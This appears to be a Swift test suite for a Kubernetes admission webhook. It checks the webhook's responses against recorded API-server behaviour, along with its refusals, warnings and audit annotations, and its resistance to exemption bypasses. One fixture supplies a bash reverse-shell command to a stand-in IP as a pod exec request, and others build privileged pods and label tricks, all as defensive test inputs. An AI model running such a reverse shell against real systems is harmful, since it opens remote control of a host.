import Dialects
import Foundation
import Judge
import KubernetesGuard
import Relay
import Testing

/// What a real kube-apiserver 1.36 did with answers of every kind, and that none of ours is of a kind that it refuses,
/// cuts or loses.
@Suite(.enabled(if: SharedData.isPresent, "needs the recorded corpora beside the project"))
struct WebhookTrapTests {
    // MARK: Answers

    /// What the server told its client after an answer of a kind.
    private struct Told {
        var status: Int
        var message: String
        var warnings: Int
        var annotations: Set<String>
    }

    /// Of the first time that a kind was tried, where a failure refuses.
    private static func edge(_ test: String) throws -> Told {
        let rows = try SharedData.objects("kubernetes/webhook-edge.jsonl")
        let row = try #require(rows.first { $0["test"] as? String == test && $0["failurePolicy"] as? String == "Fail" })
        let annotations = (row["audit_annotations"] as? [String: Any] ?? [:]).keys
        return Told(
            status: row["status"] as? Int ?? 0,
            message: row["message"] as? String ?? "",
            warnings: row["n_warnings"] as? Int ?? 0,
            annotations: Set(annotations.filter { $0.hasPrefix("edge.lab.test/") }.map { String($0.dropFirst(14)) })
        )
    }

    private struct Answered {
        var uid: String
        var json: String
        var review: [String: Any]
        var response: [String: Any]
        var isAllowed: Bool { response["allowed"] as? Bool ?? true }
    }

    /// All recorded reviews, under a policy that refuses, warns and annotates much.
    private static func answers() async throws -> [Answered] {
        let webhook = try WebhookUnderTest("refuse-at: medium\npodSecurity: {warn: restricted, audit: restricted}")
        var answers: [Answered] = []
        for row in try SharedData.objects("kubernetes/admissionreviews.jsonl") {
            let review = try #require(row["review"] as? [String: Any])
            let request = try #require(review["request"] as? [String: Any])
            let bytes = try JSONSerialization.data(withJSONObject: review)
            let json = try await webhook.judge.decide(Array(bytes)).json
            let answer = try #require(try JSONSerialization.jsonObject(with: Data(json.utf8)) as? [String: Any])
            answers.append(
                Answered(
                    uid: try #require(request["uid"] as? String),
                    json: json,
                    review: answer,
                    response: try #require(answer["response"] as? [String: Any])
                )
            )
        }
        try #require(answers.count == 396 && answers.contains { $0.isAllowed } && answers.contains { !$0.isAllowed })
        return answers
    }

    @Test func `uid, apiVersion and kind are echoed, or the server takes no answer`() async throws {
        for (test, said) in [
            ("baduid", "expected response.uid="), ("nouid", #"got """#), ("nogvk", "expected webhook response of"),
            ("v1beta1", "unknown conversion"), ("noresponse", "webhook response was absent"),
        ] {
            let told = try Self.edge(test)
            #expect(told.status == 500 && told.message.contains(said), "\(test)")
        }
        for answer in try await Self.answers() {
            #expect(answer.review["apiVersion"] as? String == "admission.k8s.io/v1")
            #expect(answer.review["kind"] as? String == "AdmissionReview")
            #expect(answer.response["uid"] as? String == answer.uid)
        }
    }

    @Test(arguments: [#"a\"b\\c"#, "ü \u{1F433}", "\\u0007\\u2028", "0"])
    func `a uid is echoed whatever is in it`(uid: String) async throws {
        let webhook = try WebhookUnderTest()
        let plain = Review(object: Review.pod(Review.plain)).json
        let json = plain.replacing("078aa13a-fd72-4bd2-bca5-9464404ffc89", with: uid)
        let wanted = try JSONSerialization.jsonObject(with: Data("\"\(uid)\"".utf8), options: .fragmentsAllowed)
        #expect(try await webhook.answer(json).response["uid"] as? String == wanted as? String)
    }

    @Test func `nothing follows the answer, which the server would take for none`() async throws {
        let told = try Self.edge("trailing")
        #expect(told.status == 500 && told.message.contains("after top-level value"))
        for answer in try await Self.answers() {
            #expect(answer.json.hasPrefix("{") && answer.json.hasSuffix("}"))
            #expect(!answer.json.contains("\n"))
        }
    }

    @Test func `no answer patches, which the server would refuse of a validating webhook`() async throws {
        #expect(try Self.edge("patch").message.contains("may not return response.patch"))
        let members: Set = ["uid", "allowed", "status", "warnings", "auditAnnotations"]
        for answer in try await Self.answers() { #expect(members.isSuperset(of: answer.response.keys)) }
    }

    @Test func `a refusal says why, with the status that its client gets`() async throws {
        let bare = try Self.edge("deny-bare")
        #expect(bare.status == 400 && bare.message.hasSuffix("denied the request without explanation"))
        // The server makes a refusal of whatever code is none into 400.
        #expect(try Self.edge("deny-200").status == 400)
        for answer in try await Self.answers() where !answer.isAllowed {
            let status = try #require(answer.response["status"] as? [String: Any])
            #expect(status["code"] as? Int == 403 && status["reason"] as? String == "Forbidden")
            #expect((status["message"] as? String)?.hasPrefix("tidewaiter refuses ") == true)
        }
    }

    @Test func `no warning is cut or lost on its way`() async throws {
        // One of a control character is dropped; behind 4,096 characters each is cut to 256.
        #expect(try Self.edge("warn-ctl").warnings == 0)
        #expect(try Self.edge("warn").warnings == 18)
        var count = 0
        for answer in try await Self.answers() {
            let warnings = answer.response["warnings"] as? [String] ?? []
            count += warnings.count
            #expect(warnings.reduce(0) { $0 + $1.unicodeScalars.count } <= 4_096)
            #expect(
                warnings.allSatisfy { !$0.isEmpty && $0.unicodeScalars.allSatisfy { !$0.isControl } },
                "\(warnings)"
            )
        }
        #expect(count > 100)
    }

    @Test func `no audit annotation is lost on its way`() async throws {
        #expect(try Self.edge("badann").annotations == ["ok"], "keys with a slash or a space vanish")
        let letters = Set("abcdefghijklmnopqrstuvwxyz-")
        var keys: Set<String> = []
        for answer in try await Self.answers() {
            let annotations = answer.response["auditAnnotations"] as? [String: Any] ?? [:]
            #expect(annotations.values.allSatisfy { $0 is String })
            keys.formUnion(annotations.keys)
        }
        #expect(keys.isSuperset(of: ["verdict", "decision", "rules", "pod-security-violations"]))
        #expect(keys.allSatisfy { letters.isSuperset(of: $0) && $0.count <= 63 })
    }

    @Test func `what cannot be answered gets a status that lets nothing in, and no answer that would`() async throws {
        for status in ["400", "500", "503"] {
            let told = try Self.edge("status/\(status)")
            #expect(told.status == 500 && told.message.contains("failed calling webhook"))
        }
        // A review that said 201 was taken for an answer: only 200 is given with one.
        #expect(try Self.edge("status/201").status == 201)
    }

    // MARK: Reviews

    private static func semantics(_ question: String) throws -> Any {
        let rows = try SharedData.objects("kubernetes/webhook-semantics.jsonl")
        let row = try #require(rows.first { ($0["question"] as? String)?.hasPrefix(question) == true })
        return try #require(row["answer"])
    }

    /// What arrived, with an object of the recorded kind that asks for as much as it can.
    private static func review(_ arrived: [String: Any]) throws -> Review {
        let kind = try #require(arrived["kind"] as? String)
        var review = Review(
            operation: try #require(arrived["op"] as? String),
            kind: kind,
            resource: try #require(arrived["res"] as? String),
            subresource: arrived["sub"] as? String,
            name: arrived["name"] as? String
        )
        let debug = #","ephemeralContainers":[{"name":"d","image":"busybox:1","securityContext":{"privileged":true}}]"#
        let pod = Review.pod(Review.privileged)
        switch (kind, review.subresource) {
        case ("PodExecOptions", _):
            review.object = #"{"command":["bash","-c","bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"]}"#
        case ("Eviction", _): review.object = #"{"kind":"Eviction","apiVersion":"policy/v1","metadata":{"name":"t1"}}"#
        case (_, "ephemeralcontainers"): review.object = Review.pod(Review.privileged, more: debug)
        case (_, nil) where review.operation == "UPDATE":
            review.object = Review.pod(Review.privileged, metadata: #","labels":{"a":"b"}"#)
        default: review.object = pod
        }
        if arrived["obj"] as? Bool == false { review.object = nil }
        if arrived["old"] as? Bool == true { review.oldObject = pod }
        return review
    }

    @Test(arguments: [
        ("rule resources=[\"pods\"]", [("CREATE pods", false)]),
        (
            "rule resources=[\"pods/*\"]",
            [
                ("UPDATE pods/ephemeralcontainers", false), ("CONNECT pods/exec", false), ("UPDATE pods/resize", true),
            ]
        ),
        (
            "label change / status / eviction",
            [
                ("UPDATE pods", true), ("UPDATE pods/status", true), ("CREATE pods/eviction", true),
                ("CREATE pods", false), ("CREATE pods", false), ("DELETE pods", true), ("DELETE pods", true),
                ("DELETE pods", true), ("DELETE pods", true),
            ]
        ),
    ])
    func `each request that a rule brings is judged as what it is`(
        question: String,
        wanted: [(request: String, isAllowed: Bool)]
    ) async throws {
        let arrived = try #require(try Self.semantics(question) as? [[String: Any]])
        try #require(arrived.count == wanted.count)
        let webhook = try WebhookUnderTest("refuse-at: medium")
        for (one, wanted) in zip(arrived, wanted) {
            let review = try Self.review(one)
            let request = "\(review.operation) \(review.resource)\(review.subresource.map { "/\($0)" } ?? "")"
            #expect(request == wanted.request)
            #expect(try await webhook.answer(review).isAllowed == wanted.isAllowed, "\(request)")
        }
    }

    @Test func `an object that was sent in another version is judged as it is shown`() async throws {
        // matchPolicy Equivalent: the object comes in the version that the rule names, and `requestKind` in the client's.
        #expect(
            try Self.semantics("rule on v1 only, object posted as v2, matchPolicy Equivalent") as? [[String]] == [
                ["v1", "v2"]
            ]
        )
        let object = #"{"kind":"Thing","apiVersion":"example.com/v1","spec":{"containers":[\#(Review.privileged)]}}"#
        let review = Review(group: "example.com", kind: "Thing", resource: "things", object: object)
        let sent =
            #""requestKind":{"group":"","version":"v2","kind":"Secret"},"#
            + #""requestResource":{"group":"","version":"v2","resource":"secrets"},"requestSubResource":"status","#
        let json = review.json.replacing(#""request":{"#, with: #""request":{\#(sent)"#, maxReplacements: 1)
        #expect(try await WebhookUnderTest("refuse-at: medium").answer(json).isAllowed == false)
    }

    @Test func `nothing that the author of a pod writes on it makes it pass`() async throws {
        // An objectSelector is matched by the labels that the author gives: with it, the second create passed.
        #expect(try Self.semantics("objectSelector DoesNotExist") as? [Int] == [403, 201])
        let webhook = try WebhookUnderTest("refuse-at: medium\nexempt: [{namespaces: [kube-system]}]")
        for metadata in [
            #","labels":{"admission.tidewaiter.example/ignore":"true","kubernetes.io/metadata.name":"kube-system"}"#,
            #","annotations":{"tidewaiter.example/exempt":"true"}"#, #","namespace":"kube-system""#,
            #","ownerReferences":[{"kind":"DaemonSet","name":"x","controller":true}]"#,
            #","managedFields":[{"manager":"kube-controller-manager"}]"#,
        ] {
            let review = Review(object: Review.pod(Review.privileged, metadata: metadata))
            #expect(try await webhook.answer(review).isAllowed == false, "\(metadata)")
        }
    }

    @Test func `a key twice counts as the server counts it, and in another case not at all`() async throws {
        #expect(
            try Self.semantics("duplicate keys and unknown fields") as? String
                == "last duplicate wins, unknown dropped, warnings only"
        )
        #expect(try Self.semantics("keys in another case") as? String == "dropped (JSON keys are case sensitive)")
        let webhook = try WebhookUnderTest("refuse-at: medium")
        for (fields, isAllowed) in [
            (#""hostPID":false,"hostPID":true"#, false), (#""hostPID":true,"hostPID":false"#, true),
            (#""HostPID":true"#, true),
        ] {
            let review = Review(object: Review.pod(Review.plain, more: ",\(fields)"))
            #expect(try await webhook.answer(review).isAllowed == isAllowed, "\(fields)")
        }
    }

    @Test func `what a webhook of everything is shown besides is let pass, and no secret is recorded`() async throws {
        let shown = try #require(try Self.semantics("rule */* on every group") as? [String])
        #expect(shown == ["/secrets", "authorization.k8s.io/selfsubjectaccessreviews"])
        let webhook = try WebhookUnderTest("refuse-at: low")
        let secret = #"{"kind":"Secret","apiVersion":"v1","metadata":{"name":"s"},"data":{"k":"cGxhaW4="}}"#
        #expect(try await webhook.answer(Review(kind: "Secret", resource: "secrets", object: secret)).isAllowed)
        let access = Review(
            group: "authorization.k8s.io",
            kind: "SelfSubjectAccessReview",
            resource: "selfsubjectaccessreviews",
            object: #"{"kind":"SelfSubjectAccessReview","apiVersion":"authorization.k8s.io/v1","spec":{}}"#
        )
        #expect(try await webhook.answer(access).isAllowed)
        #expect(webhook.decisions.verdicts.isEmpty)
    }

    @Test func `reviews as large as the server made of a stored pod are judged`() async throws {
        let sizes = try SharedData.objects("kubernetes/webhook-semantics.jsonl").flatMap { row -> [Int] in
            let evidence = row["evidence"]
            let many = (evidence as? [[String: Any]])?.compactMap { $0["bytes"] as? Int } ?? []
            return many + [(evidence as? [String: Any])?["review_bytes"] as? Int].compactMap(\.self)
        }
        #expect(sizes.max() == 2_174_572)
        let webhook = try WebhookUnderTest("refuse-at: medium")
        for size in sizes {
            let filler = #","annotations":{"a":"\#(String(repeating: "x", count: size))"}"#
            let review = Review(object: Review.pod(Review.privileged, metadata: filler))
            #expect(try await webhook.answer(review).isAllowed == false, "\(size) bytes")
        }
    }
}

extension Unicode.Scalar {
    fileprivate var isControl: Bool { properties.generalCategory == .control }
}
